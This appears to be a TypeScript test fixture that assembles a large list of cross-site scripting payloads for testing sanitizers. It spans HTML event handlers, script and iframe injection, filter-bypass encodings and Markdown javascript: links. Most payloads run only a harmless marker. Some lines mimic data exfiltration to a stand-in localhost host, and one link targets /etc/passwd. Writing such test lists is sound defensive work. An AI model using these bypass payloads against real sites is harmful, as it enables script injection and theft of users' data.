/** Texts that run something, or call somewhere, wherever they are taken for markup: HTML, SVG, addresses, Markdown, and ways around filters. */

/** What each of them would do. */
const ACT = "globalThis.ran=1";
/** Nothing may ever be fetched from there. */
export const ELSEWHERE = "http://127.0.0.1:9/elsewhere";

const EVENTS = [
  "onerror",
  "onload",
  "onfocus autofocus tabindex=1",
  "onmouseover",
  "onanimationstart",
  "ontoggle",
  "onpointerenter",
  "onbegin",
  "onbeforematch",
  "oncontentvisibilityautostatechange",
];

const TAGS = [
  "img src=x",
  "svg",
  "body",
  "input",
  "video src=x",
  "audio src=x",
  "details open",
  "iframe",
  "marquee",
  "object data=x",
  "math",
  "select",
  "a href=x",
  "style",
  "link rel=stylesheet href=x",
];

const byEvent = TAGS.flatMap((tag) => EVENTS.map((event) => `<${tag} ${event.replace(/^(\w+)/, `$1="${ACT}"`)}>`));

const HTML = [
  `<script>${ACT}</script>`,
  `<ScRiPt>${ACT}</sCrIpT>`,
  `<script src="${ELSEWHERE}.js"></script>`,
  `<svg><script>${ACT}</script></svg>`,
  `<svg><animate attributeName=href values="javascript:${ACT}" /><a><text>x</text></a></svg>`,
  `<svg><use href="data:image/svg+xml,<svg id=x xmlns='http://www.w3.org/2000/svg'><image href=1 onerror=${ACT} /></svg>#x"/></svg>`,
  `<iframe srcdoc="<script>parent.${ACT}</script>"></iframe>`,
  `<iframe src="javascript:parent.${ACT}"></iframe>`,
  `<iframe src="data:text/html,<script>parent.${ACT}</script>"></iframe>`,
  `<object data="javascript:${ACT}"></object>`,
  `<embed src="javascript:${ACT}">`,
  `<form action="javascript:${ACT}"><button>go</button></form>`,
  `<button formaction="javascript:${ACT}">go</button>`,
  `<meta http-equiv="refresh" content="0;url=javascript:${ACT}">`,
  `<base href="${ELSEWHERE}/">`,
  `<template><img src=x onerror="${ACT}"></template>`,
  `<noscript><p title="</noscript><img src=x onerror=${ACT}>">`,
  `<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=${ACT}&gt;">`,
  `<svg></p><style><a id="</style><img src=1 onerror=${ACT}>">`,
  `<img src="${ELSEWHERE}.png">`,
  `<link rel="stylesheet" href="${ELSEWHERE}.css">`,
  `<style>@import "${ELSEWHERE}.css";body{background:url(${ELSEWHERE}.png)}</style>`,
  `"><img src=x onerror=${ACT}>`,
  `'-${ACT}-'`,
  `</script><script>${ACT}</script>`,
  `</textarea><img src=x onerror=${ACT}>`,
  `</title><img src=x onerror=${ACT}>`,
  `<!--><img src=x onerror=${ACT}>-->`,
  `<![CDATA[><img src=x onerror=${ACT}>]]>`,
  `\u003cimg src=x onerror=${ACT}\u003e`,
  `&lt;img src=x onerror=${ACT}&gt;`,
  `&#60;img src=x onerror=${ACT}&#62;`,
  `{{constructor.constructor('${ACT}')()}}`,
  `\${${ACT}}`,
];

const MARKDOWN = [
  `[click](javascript:${ACT})`,
  `[click](JaVaScRiPt:${ACT})`,
  `[click]( javascript:${ACT})`,
  `[click](java\tscript:${ACT})`,
  `[click](javascript&colon;${ACT})`,
  `[click](&#106;avascript:${ACT})`,
  `[click](vbscript:${ACT})`,
  `[click](data:text/html;base64,PHNjcmlwdD5wYXJlbnQucmFuPTE8L3NjcmlwdD4=)`,
  `[click](file:///etc/passwd)`,
  `[click][ref]\n\n[ref]: javascript:${ACT}`,
  `<javascript:${ACT}>`,
  `![picture](${ELSEWHERE}.png)`,
  `![picture](javascript:${ACT})`,
  `![picture](data:image/svg+xml,<svg onload=${ACT}>)`,
  `![x](x"onerror="${ACT})`,
  `![a](${ELSEWHERE}?q=secret "title")`,
  `[![nested](${ELSEWHERE}.png)](javascript:${ACT})`,
  `\`\`\`html\n<script>${ACT}</script>\n\`\`\``,
  `\`\`\`"><img src=x onerror=${ACT}>\ncode\n\`\`\``,
  `\`<img src=x onerror=${ACT}>\``,
  `| <img src=x onerror=${ACT}> |\n| --- |\n| <script>${ACT}</script> |`,
  `# <img src=x onerror=${ACT}>`,
  `> <svg onload=${ACT}>`,
  `- <iframe src="javascript:${ACT}">`,
  `**<img src=x onerror=${ACT}>**`,
  `<div markdown="1"><img src=x onerror=${ACT}></div>`,
  `$$\\href{javascript:${ACT}}{x}$$`,
  `\`\`\`mermaid\ngraph TD; A["<img src=x onerror=${ACT}>"]\n\`\`\``,
  `http://x.example/"onmouseover="${ACT}`,
  `<https://x.example/?<img src=x onerror=${ACT}>>`,
];

export const PAYLOADS: readonly string[] = [...byEvent, ...HTML, ...MARKDOWN];

/** Those that may be the name of a file. */
export const NAME_PAYLOADS: readonly string[] = PAYLOADS.filter((payload) => !/[/\n\t\0]/.test(payload) && payload.length < 200);
